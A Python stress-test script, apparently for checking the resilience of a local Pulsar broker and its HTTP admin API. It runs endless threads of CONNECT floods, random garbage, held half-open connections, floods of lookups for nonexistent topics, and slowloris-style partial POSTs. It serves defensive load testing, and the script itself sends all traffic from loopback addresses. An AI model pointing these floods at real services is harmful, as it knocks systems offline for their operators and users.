"""Peers that mean harm, for as long as it runs: hostile.py HOST PULSAR-PORT HTTP-PORT [TLS-PORT]

From other addresses of loopback (127.0.0.66 and on): floods of CONNECT, half-open and slow peers, garbage, and a million lookups of what
is not there. `attack.sh` measures clients with manners beside it.
"""

import os
import socket
import struct
import sys
import threading

HOST, PULSAR, HTTP = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
TLS = int(sys.argv[4]) if len(sys.argv) > 4 else None


def varint(number):
    out = b""
    while number > 0x7F:
        out += bytes([number & 0x7F | 0x80])
        number >>= 7
    return out + bytes([number])


def field(number, value):
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    return varint(number << 3 | 2) + varint(len(value)) + value


def frame(kind, body_field, body):
    command = field(1, kind) + field(body_field, body)
    return struct.pack(">II", len(command) + 4, len(command)) + command


CONNECT = frame(2, 2, field(1, b"hostile") + field(4, 19))


def lookup(number):
    topic = b"persistent://public/default/none-%d" % number
    return frame(23, 23, field(1, topic) + field(2, number))


def dial(source, port):
    peer = socket.socket()
    peer.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    peer.bind((source, 0))
    peer.settimeout(5)
    peer.connect((HOST, port))
    return peer


def forever(act):
    def run():
        while True:
            try:
                act()
            except OSError:
                pass

    threading.Thread(target=run, daemon=True).start()


def connect_flood():
    peer = dial("127.0.0.66", PULSAR)
    peer.sendall(CONNECT)
    peer.close()


def garbage():
    peer = dial("127.0.0.67", PULSAR)
    peer.sendall(os.urandom(4096))
    peer.close()


def half_open(port):
    held = []

    def act():
        held.append(dial("127.0.0.68", port))
        if len(held) > 5000:
            held.pop(0).close()

    return act


def lookups():
    peer = dial("127.0.0.69", PULSAR)
    peer.sendall(CONNECT)
    number = 0
    while True:
        peer.sendall(b"".join(lookup(number + more) for more in range(200)))
        number += 200
        peer.recv(1 << 20)


def slow_posts():
    held = []

    def act():
        peer = dial("127.0.0.70", HTTP)
        peer.sendall(b"POST /admin/v2/clusters HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000\r\n\r\n{")
        held.append(peer)
        if len(held) > 2000:
            held.pop(0).close()

    return act


for act in [connect_flood, connect_flood, garbage, half_open(PULSAR), lookups, slow_posts()]:
    forever(act)
if TLS:
    forever(half_open(TLS))
print("attacking", flush=True)
threading.Event().wait()
